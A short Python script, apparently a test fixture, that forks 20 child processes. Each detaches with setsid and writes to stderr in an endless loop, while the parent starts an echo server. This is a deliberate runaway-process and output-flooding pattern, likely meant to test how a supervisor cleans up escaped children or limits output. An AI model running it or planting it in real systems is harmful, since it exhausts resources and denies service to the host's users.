import os

from echo import serve

for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        while True:
            os.write(2, b"y" * 4096)
serve()
